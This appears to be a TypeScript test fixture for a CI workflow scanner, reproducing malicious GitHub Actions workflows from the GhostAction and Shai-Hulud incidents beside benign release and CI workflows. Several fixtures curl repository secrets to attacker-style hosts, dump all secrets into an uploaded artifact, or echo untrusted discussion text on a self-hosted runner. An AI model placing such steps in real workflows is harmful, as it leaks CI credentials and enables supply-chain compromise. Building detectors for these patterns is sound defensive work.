/**
 * Workflow texts for the scan tests, written after the public write-ups of each incident (GitGuardian and PyPI
 * on GhostAction, CISA and others on Shai-Hulud and its second wave) and after ordinary release workflows.
 */

export const GHOSTACTION_HOST = 'bold-dhawan.45-139-104-115.plesk.page';

/** GhostAction: a new workflow pushed to the default branch that curls each secret to the collector. */
export function ghostAction(secrets: string[] = ['PYPI_API_TOKEN', 'NPM_TOKEN']): string {
  return `name: Github Actions Security
on:
  workflow_dispatch:
  push:
jobs:
  send-secrets:
    runs-on: ubuntu-latest
    steps:
      - name: Prepare repository
        run: |
${secrets.map((s) => `          curl -s -d "${s.toLowerCase()}=\${{ secrets.${s} }}" https://${GHOSTACTION_HOST}`).join('\n')}
`;
}

/** Shai-Hulud: the whole secrets context posted to the worm's webhook.site bin. */
export const SHAI_HULUD = `name: Shai-Hulud Workflow
on: push
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - name: Data Processing
        run: curl -d "$CONTENTS" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
        env:
          CONTENTS: \${{ toJSON(secrets) }}
`;

/** Shai-Hulud 2.0: discussion bodies run on the self-hosted runner the worm registered. */
export const SHA1HULUD_DISCUSSION = `name: Discussion Create
on:
  discussion:
jobs:
  process:
    runs-on: self-hosted
    steps:
      - uses: actions/checkout@v5
      - name: Handle Discussion
        run: echo \${{ github.event.discussion.body }}
`;

/** A legitimate discussion workflow on a hosted runner: same file name, not the indicator. */
export const BENIGN_DISCUSSION = `name: Discussion greeter
on:
  discussion:
    types: [created]
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "thanks for the discussion"
`;

/** Shai-Hulud 2.0: secrets dumped to a file and uploaded as an artifact. */
export const SHA1HULUD_FORMATTER = `name: Code Formatter
on: push
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - name: Run Formatter
        run: |
          cat <<EOF > format-results.txt
          \${{ toJSON(secrets) }}
          EOF
      - uses: actions/upload-artifact@v5
        with:
          name: formatting
          path: format-results.txt
`;

/** An ordinary PyPI release with a token: the token goes to PyPI only. */
export const PYPI_RELEASE = `name: Release
on:
  release:
    types: [published]
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v5
      - uses: actions/setup-python@v6
        with:
          python-version: '3.12'
      - run: python -m pip install build && python -m build
      - name: Publish
        uses: pypa/gh-action-pypi-publish@release/v1
        with:
          password: \${{ secrets.PYPI_API_TOKEN }}
`;

export const CI = `name: CI
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v5
      - run: npm ci && npm test
`;

/** A workflow that uses a local composite action and hands it a secret. */
export const USES_LOCAL_ACTION = `name: Notify
on: push
jobs:
  notify:
    runs-on: ubuntu-latest
    steps:
      - uses: ./.github/actions/notify
        with:
          token: \${{ secrets.DEPLOY_TOKEN }}
`;

/** The composite action: sends its input to a host no policy allows. */
export const NOTIFY_ACTION = `name: notify
inputs:
  token:
    required: true
runs:
  using: composite
  steps:
    - shell: bash
      run: |
        curl -s -H "Authorization: Bearer \${{ inputs.token }}" https://collector.example.net/notify
`;

export const ROOT_ACTION = `name: my-action
runs:
  using: node24
  main: dist/index.js
`;
